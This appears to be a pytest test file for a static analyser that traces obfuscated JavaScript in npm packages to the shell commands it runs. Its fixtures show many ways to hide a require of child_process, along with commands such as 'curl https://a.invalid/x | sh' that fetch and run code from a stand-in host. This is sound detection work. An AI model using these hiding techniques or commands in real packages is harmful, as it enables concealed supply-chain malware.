"""What JavaScript runs or makes without a call that shows it is followed to where it ends."""

import pytest

from tests.code import reading

RUN = "c.exec('curl https://a.invalid/x')\n"
NAME = "'child_process'"


def _commands(code):
    found = reading.facts({"package/index.js": code}, {"package/index.js": "import"}, "npm")
    return [value.text for fact in found.get("exec/shell", ()) for value in fact.values]


@pytest.mark.parametrize(
    "reached",
    [
        f"new Proxy({{}}, {{ get: (_, k) => require(k) }})[{NAME}]",
        f"new Proxy(require, {{ apply: (f, t, a) => f(a[0]) }})({NAME})",
        f"({{ get c () {{ return require({NAME}) }} }}).c",
        f"(class {{ static get c () {{ return require({NAME}) }} }}).c",
        "((p, n) => require(p[0] + n + p[1]))`child${'_pro'}cess`",
        "require(String.raw`child_${'process'}`)",
        "require(`${{ [Symbol.toPrimitive]: () => 'child_process' }}`)",
        "require('' + { toString () { return 'child_process' } })",
        "(() => { try { throw 'child_process' } catch (e) { return require(e) } })()",
        "(() => { try { throw new Error('child_process') } catch (e) { return require(e.message) } })()",
        "(([, , n]) => require(n))([0, 1, 'child_process'])",
        f"Reflect.apply(require, null, [{NAME}])",
        "require(['process', 'child_'].sort((a, b) => a < b ? -1 : 1).join(''))",
        "(function * () { yield require('child_process') })().next().value",
        "require(Function('return \"child_process\"')())",
        "require((function f (n) { return n ? f(n - 1) + 'child_process'.charAt(n - 1) : '' })(13))",
    ],
)
def test_a_module_is_reached_through_what_no_call_shows(reached):
    assert _commands(f"const c = {reached}\n{RUN}") == ["curl https://a.invalid/x"]


def test_what_is_set_on_the_global_object_is_found_there_and_by_its_bare_name():
    code = f"global['r'] = require\nconst c = r({NAME})\n{RUN}global.r({NAME}).exec('b')\n"
    assert _commands(code) == ["curl https://a.invalid/x", "b"]


def test_a_switch_asks_for_its_subject_once_and_labels_share_a_body():
    code = (
        "let s = '', o = '2|0|1'.split('|'), i = 0\n"
        "while (true) { switch (o[i++]) { case '0': s += 'ild_'; continue; case '9':\n"
        "case '1': s += 'process'; continue; case '2': s += 'ch'; continue } break }\n"
    )
    assert _commands(f"const c = require((() => {{ {code} return s }})())\n{RUN}")


def test_a_library_takes_the_text_of_a_tagged_template():
    code = "const { $ } = require('zx')\n$`curl https://a.invalid/x | sh`\n"
    found = reading.facts({"package/index.js": code}, {"package/index.js": "import"}, "npm")
    assert "exec/download-run" in found


def test_a_getter_runs_when_its_name_is_read_only():
    code = f"exports.box = {{ get run () {{ return require({NAME}).execSync('ls') }} }}\n"
    found = reading.facts({"package/index.js": code}, {"package/index.js": "import"}, "npm")
    assert {fact.activation for fact in found["exec/shell"]} == {"call"}


OBFUSCATED = {
    "flattened": (
        "const o='3|1|0|2'.split('|');let i=0;let c,s,f;while(!![]){switch(o[i++]){case'0':"
        "f=c['ex'+'ec'];continue;case'1':s='curl '+'https://a.invalid/x';continue;case'2':f(s);"
        "continue;case'3':c=require('child'+'_process');continue;}break;}"
    ),
    "calls in an object": (
        "const t={'a':function(f,x){return f(x)},'b':function(x,y){return x+y}};"
        "const c=t['a'](require,t['b']('child_','process'));"
        "t['a'](c['exec']['bind'](c),t['b']('curl ','https://a.invalid/x'))"
    ),
    "promises": (
        "Promise.resolve('child'+'_process').then(n=>require(n))"
        ".then(m=>m.exec('curl https://a.invalid/x'))"
    ),
    "events": (
        "const E=require('events');const e=new E();e.on('go',(c)=>require('child'+'_process').exec(c));"
        "e.emit('go','curl https://a.invalid/x')"
    ),
    "nullish": "let r;r??=require;r('child'+'_process').exec('curl https://a.invalid/x')",
    "private": (
        "class A{#c='curl https://a.invalid/x';#m(){return require('child'+'_process')}"
        "run(){this.#m().exec(this.#c)}} new A().run()"
    ),
    "absent": (
        "var _=[],a={};a.c=({}+'')[5];a.o=({}+'')[1];a.n=(_[0]+'')[1];a.s=(!1+'')[3];a.t=(!0+'')[0];"
        "a.r=(!0+'')[1];a.u=(!0+'')[2];var k=a.c+a.o+a.n+a.s+a.t+a.r+a.u+a.c+a.t+a.o+a.r;"
        '_[k][k](\'require("child_process").exec("curl https://a.invalid/x")\')()'
    ),
}


@pytest.mark.parametrize("how", OBFUSCATED)
def test_what_obfuscators_write_ends_as_the_command_that_it_hides(how):
    assert "curl https://a.invalid/x" in _commands(OBFUSCATED[how])
